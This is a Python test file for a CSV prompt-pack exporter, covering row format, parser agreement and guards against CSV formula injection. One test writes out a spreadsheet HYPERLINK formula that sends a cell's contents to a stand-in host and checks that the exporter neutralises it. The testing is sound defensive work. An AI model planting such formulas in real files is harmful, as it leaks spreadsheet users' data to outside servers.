import csv
import io
from collections.abc import Callable
from dataclasses import replace
from pathlib import Path
from typing import Any

import polars as pl
import pytest
from hypothesis import given
from hypothesis import strategies as st

from pipeline.packs.pack import Order, write_pack
from pipeline.packs.prompts_csv import COLUMNS, faults, row, rows, text_cell
from tests.golden_content import golden_seeds
from tests.packs.personas import golden_persona

Document = dict[str, Any]
HEADER = "act,prompt,for_devs,type,contributor"
# What the seed's schema lets through and a file must carry: quotes, commas, lines, what runs, and other scripts.
CELLS = st.text(st.characters(exclude_categories=("Cs", "Cc")) | st.sampled_from('",\n=+-@'), min_size=1, max_size=40)


@pytest.fixture
def document() -> Document:
    return row(golden_persona())


def test_a_row_says_who_it_is_and_whose_text(document: Document) -> None:
    orla = golden_persona()
    assert document == {
        "act": f"Orla Keane, {orla.seed.role} (orla-keane-5)",
        "prompt": orla.scene,
        "for_devs": "FALSE",
        "type": "TEXT",
        "contributor": orla.seed.provenance.author,
    }
    assert faults(document) == []


def test_a_seed_of_a_foreign_source_needs_neither_name_nor_role() -> None:
    seed = golden_seeds()[0].model_copy(update={"name": None, "role": None})
    assert row(golden_persona(seed=seed))["act"] == "orla-keane-5"


def test_polars_and_csv_read_a_pack_s_file_alike(tmp_path: Path) -> None:
    chosen = [golden_persona("orla-keane"), golden_persona("shen-anbang")]
    write_pack(tmp_path / "pack", Order("prompts-csv", "plan"), chosen)
    path = tmp_path / "pack" / "prompts.csv"
    wanted = [row(persona) for persona in chosen]
    assert path.read_text("utf-8").startswith(HEADER + "\n")
    with path.open(encoding="utf-8", newline="") as stream:
        assert list(csv.DictReader(stream)) == wanted
    assert pl.read_csv(path, infer_schema=False).to_dicts() == wanted


@given(cells=st.lists(st.tuples(CELLS, CELLS), min_size=1, max_size=4))
def test_hostile_cells_come_back_as_they_were_guarded(cells: list[tuple[str, str]]) -> None:
    written = [
        {"act": text_cell(act), "prompt": text_cell(prompt), "for_devs": "FALSE", "type": "TEXT", "contributor": "x"}
        for act, prompt in cells
    ]
    text = "".join(rows(written))
    assert list(csv.DictReader(io.StringIO(text, newline=""))) == written
    assert pl.read_csv(io.BytesIO(text.encode()), infer_schema=False).to_dicts() == written
    for (act, _), guarded in zip(cells, written, strict=True):
        assert guarded["act"].removeprefix("'") == act.removeprefix("'")


def test_a_pack_of_nobody_is_a_header() -> None:
    assert list(rows([])) == [",".join(COLUMNS) + "\n"] == [HEADER + "\n"]


@pytest.mark.parametrize("first", ["=", "+", "-", "@", "\t", "\r", "＝", "＋", "－", "＠"])
def test_what_a_spreadsheet_would_run_is_told_to_be_text(first: str) -> None:
    formula = f'{first}HYPERLINK("http://x.test/?"&A1)'
    assert text_cell(formula) == f"'{formula}"
    assert text_cell(f"You say {formula}") == f"You say {formula}"
    seed = golden_seeds()[0].model_copy(update={"name": formula})
    guarded = row(golden_persona(seed=seed))
    assert guarded["act"].startswith(f"'{formula}")
    assert faults(guarded) == []
    assert faults(guarded | {"act": formula}) != []
    assert faults(guarded | {"prompt": formula}) != []
    assert faults(guarded | {"contributor": formula}) != []


def test_no_text_of_a_seed_is_a_variable_that_a_user_is_asked_for() -> None:
    orla = golden_persona()
    prompt = row(replace(orla, scene="You say ${Position:Developer}."))["prompt"]
    assert prompt == "You say $ {Position:Developer}."


def test_an_author_with_a_comma_is_one_contributor() -> None:
    provenance = golden_seeds()[0].provenance.model_copy(update={"author": "Keane, Orla"})
    seed = golden_seeds()[0].model_copy(update={"provenance": provenance})
    assert row(golden_persona(seed=seed))["contributor"] == "Keane; Orla"


def older_header(document: Document) -> None:
    del document["type"]


def lower_case(document: Document) -> None:
    document["for_devs"] = "false"


def truth(document: Document) -> None:
    document["for_devs"] = False


def image(document: Document) -> None:
    document["type"] = "IMAGE"


def variable(document: Document) -> None:
    document["prompt"] += " ${Name}"


def nobody_s(document: Document) -> None:
    document["contributor"] = ""


def further_column(document: Document) -> None:
    document["license"] = "CC-BY-4.0"


@pytest.mark.parametrize(
    ("harm", "told"),
    [
        (older_header, "type"),
        (lower_case, "for_devs"),
        (truth, "for_devs"),
        (image, "type"),
        (variable, "prompt"),
        (nobody_s, "contributor"),
        (further_column, "license"),
    ],
)
def test_a_row_of_another_form_is_a_fault(document: Document, harm: Callable[[Document], None], told: str) -> None:
    harm(document)
    assert told in " ".join(map(str, faults(document)))
